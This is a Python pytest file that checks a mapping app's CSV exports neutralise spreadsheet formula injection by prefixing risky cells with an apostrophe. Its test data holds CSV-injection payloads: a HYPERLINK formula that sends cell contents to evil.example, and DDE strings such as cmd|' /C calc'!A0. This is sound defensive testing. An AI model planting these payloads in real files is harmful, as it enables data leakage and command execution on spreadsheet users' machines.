"""CSV injection (OWASP): no cell of a CSV that ibasho writes runs as a formula in a spreadsheet.

Every CSV is read back with the ``csv`` module, as a spreadsheet would split it: a cell that
held user text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return starts with
``'`` (spreadsheets then show the text, and never run it), and what the cell shows once the
``'`` is taken off is exactly the text that was stored. The places export runs on a
GeoPackage and on PostGIS, through the store, through the staff pages and through a real
``ibasho serve`` process; the planner's scenario table on the Takasaki plan.
"""

from __future__ import annotations

import csv
import http.cookiejar
import io
import re
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from admin_helpers import PASSWORD, place_fields, post_form, unique
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from served import database_with_editor, served_app

from layers.files.place_files import FORMULA_START, spreadsheet_cell
from layers.store.place_io import export_places
from webmap.web.base import app_state
from webmap.web.planner.results import scenario_csv, scenario_outcome

#: What a hostile editor (or a hostile upload) puts into a text field.
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")", "+1+1", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1,\"quoted\"", "-cmd|'/C calc'!A0"]
#: Text fields of a place that the export writes as they are stored.
FIELDS = ("name", "address", "schedule", "contact", "notes", "source", "position_source")
SETTINGS = settings(max_examples=40, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture])


def shown(cell: str) -> str:
    """What a spreadsheet shows for a cell: the text after a leading ``'``."""
    return cell[1:] if cell.startswith("'") else cell


def assert_inert(cell: str) -> None:
    """The cell does not start a formula (a plain number such as ``-12.5`` is a number)."""
    if cell.startswith(FORMULA_START):
        assert re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell), cell


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the Japanese
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def attack_place(name: str, attack: str) -> dict[str, str]:
    """A valid place whose every free-text field starts with ``attack``."""
    return {**place_fields(name), **{field: f"{attack} {field}" for field in FIELDS
                                     if field != "name"}}


@given(text=st.text(max_size=40))
@settings(max_examples=60, deadline=None, database=None)
def test_any_cell_is_inert_and_shows_the_text(text: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(["a", spreadsheet_cell(text), "b"])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[0] == "a" and row[2] == "b"  # quotes and separators stay inside the cell
    assert_inert(row[1])
    assert row[1] == text or (row[1] == "'" + text and text.startswith(FORMULA_START))
    assert shown(row[1]) == text or text.startswith("'")


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_dangerous_start_is_prefixed(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell(f"x{start}1") == f"x{start}1"


def test_places_export_neutralises_every_text_field(store, tmp_path: Path) -> None:
    stored = {}
    for attack in ATTACKS:
        place = store.add_place({**attack_place(attack, attack), "lon": None, "lat": None},
                                user="test")
        stored[place["place_id"]] = place
    out = export_places(store, "csv", tmp_path / "places.csv")
    rows = {row["place_id"]: row for row in read_csv(out.read_bytes())}
    assert set(rows) == set(stored)
    for place_id, place in stored.items():
        for field in (*FIELDS, "category", "district"):
            cell = rows[place_id][field]
            assert_inert(cell)
            assert shown(cell) == place[field], (field, cell)
        assert rows[place_id]["name"].startswith("'")


@SETTINGS
@given(field=st.sampled_from(FIELDS), start=st.sampled_from(["=", "+", "-", "@"]),
       text=st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                    max_size=30))
def test_any_stored_text_exports_inert(store, tmp_path: Path, field: str, start: str,
                                       text: str) -> None:
    value = f"{start}{text}"
    if field == "name":
        value = f"{start}{unique('名')}{text}"
    place = store.add_place({**place_fields(unique("場所")), field: value, "lon": None,
                             "lat": None}, user="test")
    out = export_places(store, "csv", tmp_path / "places.csv")
    row = next(r for r in read_csv(out.read_bytes()) if r["place_id"] == place["place_id"])
    for cell in row.values():
        assert_inert(cell)
    assert shown(row[field]) == place[field] == value.strip()


def test_staff_export_download_is_inert(admin_app, editor, viewer) -> None:
    attack = "=HYPERLINK(\"http://evil.example\",\"地図\")"
    name = f"{attack}{unique('')}"
    response = post_form(editor, "/admin/places/new", attack_place(name, attack))
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    rows = read_csv(viewer.get("/admin/export/csv").data)
    row = next(r for r in rows if shown(r["name"]) == name)
    assert row["name"] == "'" + name
    for field in FIELDS:
        assert_inert(row[field])
        assert shown(row[field]) == (name if field == "name" else f"{attack} {field}")


def test_scenario_table_is_inert(app) -> None:
    state = app_state(app).maps
    site = state.plan.suggestions.iloc[0]
    labels = ["=2+5", "@A1", "-1+2", "+候補", "=HYPERLINK(\"x\")"]
    add = [{"lonlat": [site.geometry.x, site.geometry.y], "label": label} for label in labels]
    outcome = scenario_outcome(state.study, state.plan, add=add, remove=["p0012"],
                               district=site["district"])
    rows = list(csv.reader(io.StringIO(scenario_csv("=cmd|' /C calc'!A0", outcome)
                                       .decode("utf-8-sig"), newline="")))
    assert rows[0] == ["計画案", "'=cmd|' /C calc'!A0"]
    for row in rows:
        for cell in row:
            assert_inert(cell)
    shown_labels = [shown(row[1]) for row in rows if row and row[0] == "新設（計画）"]
    assert shown_labels == labels


class Browser:
    """An HTTP client with cookies, as a browser talks to the served app."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))

    def get(self, path: str) -> tuple[int, bytes]:
        try:
            with self.opener.open(f"{self.base}{path}", timeout=60) as answer:
                return answer.status, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.read()

    def token(self, path: str) -> str:
        page = self.get(path)[1].decode()
        return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)

    def post(self, path: str, form: dict[str, str], *, token_from: str) -> tuple[int, bytes]:
        data = urllib.parse.urlencode({"csrf_token": self.token(token_from), **form}).encode()
        try:
            with self.opener.open(f"{self.base}{path}", data=data, timeout=60) as answer:
                return answer.status, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.read()


def test_served_export_is_inert(tmp_path: Path) -> None:
    database = database_with_editor(tmp_path, PASSWORD)
    with served_app(database, log_path=tmp_path / "serve.log") as base:
        browser = Browser(base)
        status, _ = browser.post("/admin/login", {"name": "henshu", "password": PASSWORD},
                                 token_from="/admin/login")
        assert status == 200  # redirected to the list of places
        attack = "@SUM(1+1)*cmd|' /C calc'!A0"
        status, page = browser.post("/admin/places/new", attack_place(attack, attack),
                                    token_from="/admin/places/new")
        assert status == 200 and "追加しました" in page.decode(), page.decode()[:2000]
        status, data = browser.get("/admin/export/csv")
        assert status == 200
    rows = read_csv(data)
    assert len(rows) == 77  # Takasaki's 76 and the new one
    row = next(r for r in rows if shown(r["name"]) == attack)
    assert row["name"] == "'" + attack and shown(row["notes"]) == f"{attack} notes"
    for row in rows:
        for cell in row.values():
            assert_inert(cell)
